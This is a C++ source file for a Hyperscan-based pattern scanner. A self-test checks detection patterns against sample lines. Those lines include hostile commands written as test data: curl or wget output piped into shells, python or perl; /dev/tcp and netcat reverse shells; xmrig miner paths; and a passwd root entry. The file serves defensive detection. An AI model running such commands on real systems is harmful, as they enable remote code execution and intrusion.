#include "engine/pattern_database.h"

#include <fmt/format.h>
#include <hs.h>

#include <algorithm>
#include <array>
#include <atomic>
#include <cstdlib>

namespace lazaret::engine {
namespace {

// Literals are compiled as regular expressions of \xHH, since hs_compile_lit of 5.4.0 fails at scan time on long ones.
std::string expression_of(const Pattern& pattern) {
  if (!pattern.literal) return std::string(pattern.text);
  std::string expression;
  expression.reserve(pattern.text.size() * 4);
  for (const char c : pattern.text) expression += fmt::format("\\x{:02x}", static_cast<std::uint8_t>(c));
  return expression;
}

unsigned flags_of(const Pattern& pattern) {
  unsigned flags = 0;
  if (pattern.ignore_case) flags |= HS_FLAG_CASELESS;
  if (pattern.multi_line) flags |= HS_FLAG_MULTILINE;
  if (pattern.dot_all) flags |= HS_FLAG_DOTALL;
  if (pattern.once) flags |= HS_FLAG_SINGLEMATCH;
  return flags;
}

// Scratch space belongs to a thread, and fits every database it was once given to.
class ThreadScratch {
 public:
  ~ThreadScratch() { hs_free_scratch(scratch_); }
  hs_scratch_t* fit(const hs_database_t* database, std::uint64_t id) {
    if (std::find(fitted_.begin(), fitted_.end(), id) == fitted_.end()) {
      if (hs_alloc_scratch(database, &scratch_) != HS_SUCCESS) return nullptr;
      if (fitted_.size() > 64) fitted_.clear();
      fitted_.push_back(id);
    }
    return scratch_;
  }

 private:
  hs_scratch_t* scratch_ = nullptr;
  std::vector<std::uint64_t> fitted_;
};

struct Collector {
  std::vector<Hit>* hits;
  std::uint64_t max_hits;
  bool overflow = false;
};

int on_match(unsigned id, unsigned long long, unsigned long long to, unsigned, void* context) {
  auto& collector = *static_cast<Collector*>(context);
  auto& hits = *collector.hits;
  if (hits.size() >= collector.max_hits) {
    collector.overflow = true;
    return 1;
  }
  if (!hits.empty() && hits.back().pattern == id && hits.back().end == to) return 0;
  hits.push_back({id, to});
  return 0;
}

class HyperscanDatabase final : public PatternDatabase {
 public:
  explicit HyperscanDatabase(hs_database_t* database) : database_(database) {
    static std::atomic<std::uint64_t> counter{0};
    id_ = ++counter;
  }
  ~HyperscanDatabase() override { hs_free_database(database_); }

  ScanStatus scan(Bytes bytes, std::uint64_t max_hits, std::vector<Hit>& hits) const override {
    if (database_ == nullptr) return ScanStatus::complete;
    if (bytes.size() > 0xffffffffu) return ScanStatus::failed;
    thread_local ThreadScratch scratch;
    hs_scratch_t* const space = scratch.fit(database_, id_);
    if (space == nullptr) return ScanStatus::failed;
    // Hyperscan refuses a null pointer, which is what an empty file's bytes may have.
    const char* const begin_of_bytes = bytes.empty() ? "" : reinterpret_cast<const char*>(bytes.data());
    const std::size_t before = hits.size();
    Collector collector{&hits, before + max_hits};
    const hs_error_t code =
        hs_scan(database_, begin_of_bytes, static_cast<unsigned>(bytes.size()), 0, space, on_match, &collector);
    const auto begin = hits.begin() + static_cast<std::ptrdiff_t>(before);
    std::sort(begin, hits.end(), [](const Hit& a, const Hit& b) { return a.end != b.end ? a.end < b.end : a.pattern < b.pattern; });
    hits.erase(std::unique(begin, hits.end(), [](const Hit& a, const Hit& b) { return a.end == b.end && a.pattern == b.pattern; }), hits.end());
    if (collector.overflow) return ScanStatus::too_many_hits;
    return code == HS_SUCCESS ? ScanStatus::complete : ScanStatus::failed;
  }

  std::string save() const override {
    char* bytes = nullptr;
    std::size_t size = 0;
    if (database_ == nullptr || hs_serialize_database(database_, &bytes, &size) != HS_SUCCESS) return "";
    std::string saved(bytes, size);
    std::free(bytes);
    return saved;
  }

  std::size_t memory_bytes() const override {
    std::size_t size = 0;
    if (database_ != nullptr) hs_database_size(database_, &size);
    return size;
  }

 private:
  hs_database_t* const database_;
  std::uint64_t id_ = 0;
};

Result<std::unique_ptr<PatternDatabase>> compile_unchecked(std::span<const Pattern> patterns) {
  if (patterns.empty()) return std::unique_ptr<PatternDatabase>(std::make_unique<HyperscanDatabase>(nullptr));
  std::vector<std::string> expressions;
  std::vector<const char*> pointers;
  std::vector<unsigned> flags, ids;
  expressions.reserve(patterns.size());
  for (std::size_t i = 0; i < patterns.size(); ++i) {
    expressions.push_back(expression_of(patterns[i]));
    flags.push_back(flags_of(patterns[i]));
    ids.push_back(static_cast<unsigned>(i));
  }
  for (const std::string& expression : expressions) pointers.push_back(expression.c_str());
  hs_database_t* database = nullptr;
  hs_compile_error_t* error = nullptr;
  if (hs_compile_multi(pointers.data(), flags.data(), ids.data(), static_cast<unsigned>(pointers.size()), HS_MODE_BLOCK, nullptr, &database, &error) !=
      HS_SUCCESS) {
    const std::string which = error->expression >= 0 ? expressions[static_cast<std::size_t>(error->expression)] : "(all)";
    Error result{ErrorCode::invalid, fmt::format("pattern {} does not compile: {}", which, error->message)};
    hs_free_compile_error(error);
    return result;
  }
  return std::unique_ptr<PatternDatabase>(std::make_unique<HyperscanDatabase>(database));
}

// Lines whose matches are known. A library that misses one (Vectorscan 5.4.9 misses the .* lines) must not audit anything.
struct KnownLine {
  std::string_view text;
  std::uint32_t pattern;  // the only one that matches; ~0 for none
};

Result<void> self_test() {
  static const std::array patterns = {
      Pattern{"curl.*\\|\\s*python", false, false, false, true},  Pattern{"curl[\\s\\S]*\\|\\s*perl", false, false, false, false},
      Pattern{"(curl|wget).*\\|\\s*(ba)?sh\\b", false, false, false, true}, Pattern{"/dev/tcp/", true, false, false, false},
      Pattern{"xmrig", true, true, false, false},                  Pattern{"^root:", false, false, true, false},
      Pattern{"nc\\s+-[a-z]*e", false, false, false, false},
  };
  static constexpr std::uint32_t none = ~0u;
  static const std::array lines = {
      KnownLine{"curl -s http://192.0.2.1/a | python", 0}, KnownLine{"curl -fsSL https://host.example/install.py -o - | python", 0},
      KnownLine{"x curl --retry 3 http://198.51.100.7:8220/logo3.py   |   python", 0}, KnownLine{"curl -s http://192.0.2.1/a\n| python3 -", 0},
      KnownLine{"curl -s http://192.0.2.1/a | perl", 1}, KnownLine{"curl -s http://192.0.2.1/aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa | perl", 1},
      KnownLine{"curl\n\n\n|perl", 1}, KnownLine{"for i in 1 2 3; do curl $i; done | perl -", 1},
      KnownLine{"curl -s http://192.0.2.1/x.sh | sh", 2}, KnownLine{"wget -qO- http://192.0.2.1/x.sh | bash", 2},
      KnownLine{"wget -q -O - http://203.0.113.9:8080/dddddddddddddddddddddddddddddddddddddddddddddddddddddddddd/x |sh -s", 2},
      KnownLine{"curl -fsSL http://203.0.113.9/x | sh && true", 2}, KnownLine{"a;b;c;wget http://203.0.113.9/1|sh", 2},
      KnownLine{"bash -i >& /dev/tcp/203.0.113.7/4444 0>&1", 3}, KnownLine{"exec 5<>/dev/tcp/203.0.113.7/1", 3},
      KnownLine{"0<&196;exec 196<>/dev/tcp/198.51.100.1/443; sh <&196 >&196 2>&196", 3}, KnownLine{"./XMRig --config=a", 4},
      KnownLine{"/usr/local/bin/xmrig", 4}, KnownLine{"zzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzxmRIG", 4},
      KnownLine{"root:x:0:0", 5}, KnownLine{"daemon:x:1:1\nroot:x:0:0", 5}, KnownLine{"nc -e /bin/sh 203.0.113.7 4444", 6},
      KnownLine{"nc -lvpe 4444", 6}, KnownLine{"curl -s http://192.0.2.1/a > python", none}, KnownLine{"wget http://192.0.2.1/a.tar", none},
      KnownLine{"/dev/tcx/", none}, KnownLine{"xmri g", none}, KnownLine{" root:", none}, KnownLine{"nc -l 80", none},
      KnownLine{"cat a | bash", none}, KnownLine{"echo curlpython", none}, KnownLine{"", none},
  };
  auto database = compile_unchecked(patterns);
  if (!database) return database.error();
  for (const KnownLine& line : lines) {
    std::vector<Hit> hits;
    const auto status = (*database)->scan(as_bytes(line.text), 1000, hits);
    const bool right = status == ScanStatus::complete && (line.pattern == none ? hits.empty() : !hits.empty() && std::all_of(hits.begin(), hits.end(), [&](const Hit& hit) {
                         return hit.pattern == line.pattern;
                       }));
    if (!right) {
      return Error{ErrorCode::unsupported, fmt::format("the pattern library fails its self-test on \"{}\": install libhyperscan5 5.4.0 (Vectorscan 5.4.9 "
                                                       "misses matches) and start again", line.text)};
    }
  }
  return {};
}

const Result<void>& tested() {
  static const Result<void> result = self_test();
  return result;
}

}  // namespace

Result<std::unique_ptr<PatternDatabase>> PatternDatabase::compile(std::span<const Pattern> patterns) {
  if (!tested()) return tested().error();
  return compile_unchecked(patterns);
}

std::unique_ptr<PatternDatabase> PatternDatabase::load(Bytes saved) {
  if (!tested()) return nullptr;
  hs_database_t* database = nullptr;
  if (hs_deserialize_database(as_text(saved).data(), saved.size(), &database) != HS_SUCCESS) return nullptr;
  return std::make_unique<HyperscanDatabase>(database);
}

}  // namespace lazaret::engine
